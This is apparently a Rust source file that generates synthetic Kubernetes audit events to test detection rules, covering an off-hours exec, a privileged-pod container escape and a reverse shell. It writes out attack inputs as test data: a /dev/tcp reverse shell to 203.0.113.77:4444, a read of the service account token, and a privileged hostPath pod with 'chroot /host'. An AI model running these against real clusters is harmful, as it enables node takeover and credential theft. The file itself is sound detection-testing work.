//! Stories about what happens inside containers, and about getting out of them.

use std::time::Duration;

use super::{QUICK, Story};
use crate::generate::{
    event::{Object, Request},
    people::{exec_into, is_night, zones},
};

pub(super) const NIGHT_EXEC: Story = Story {
    id: "night-exec",
    title: "A shell in the payment pod, in the middle of the night",
    description: "Where the owner of the account lives it is night, and nobody is on call. A shell is \
                  opened by WebSocket (verb get), then once more by SPDY (verb create).",
    expected_rules: &["exec_outside_business_hours"],
    related_rules: &["first_exec_in_namespace"],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let zones = zones();
        let asleep =
            scene.cluster.people.iter().skip(3).find(|person| {
                zones.get(person.office).is_some_and(|zone| is_night(zone, scene.now))
            });
        let Some(who) = asleep else { return };
        let pod = scene.cluster.pod_in(scene.rng, "payments").clone();
        let query = "command=sh&container=payment-gateway&stdin=true&stdout=true&tty=true";
        for websocket in [true, false] {
            let who = crate::generate::cluster::Person { websocket, ..who.clone() };
            exec_into(scene, &who, "payments", &pod.name, query);
            scene.pause(1_500);
        }
    },
};

pub(super) const CONTAINER_ESCAPE: Story = Story {
    id: "container-escape",
    title: "A privileged pod with the node's disk, and a shell in it",
    description: "A pod that is privileged and mounts the root of its node is made in the default \
                  namespace; its maker executes a command in it at once.",
    expected_rules: &["privileged_pod", "host_path_mount", "exec_into_privileged_pod"],
    related_rules: &[
        "exec_after_privileged_workload",
        "host_namespaces",
        "exec_outside_business_hours",
        "first_exec_in_namespace",
    ],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(4) else { return };
        let body = "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"node-debug\",\
                    \"namespace\":\"default\"},\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\
                    \"shell\",\"image\":\"alpine:3.22\",\"command\":[\"sleep\",\"86400\"],\
                    \"securityContext\":{\"privileged\":true},\"volumeMounts\":[{\"name\":\"host\",\
                    \"mountPath\":\"/host\"}]}],\"volumes\":[{\"name\":\"host\",\"hostPath\":{\
                    \"path\":\"/\"}}]}}";
        let pod = Object::core("pods", "default", "node-debug");
        let request = Request::object(&who.caller, "create", pod);
        scene.request(&Request { level: "Request", sent: body, ..request });
        scene.pause(2_500);
        let query = "command=chroot&command=%2Fhost&container=shell&stdout=true";
        exec_into(scene, who, "default", "node-debug", query);
    },
};

pub(super) const REVERSE_SHELL: Story = Story {
    id: "reverse-shell",
    title: "A container is told to call home",
    description: "A command in a search pod opens a shell to an address outside, and another reads \
                  the service account's token.",
    expected_rules: &["exec_reverse_shell", "exec_reads_credentials"],
    related_rules: &["exec_outside_business_hours", "first_exec_in_namespace"],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(5) else { return };
        let pod = scene.cluster.pod_in(scene.rng, "search").clone();
        let shell = "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.77%2F4444+\
                     0%3E%261&container=query&stdout=true";
        exec_into(scene, who, "search", &pod.name, shell);
        scene.wait(Duration::from_secs(1));
        let token = "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken\
                     &container=query&stdout=true";
        exec_into(scene, who, "search", &pod.name, token);
    },
};
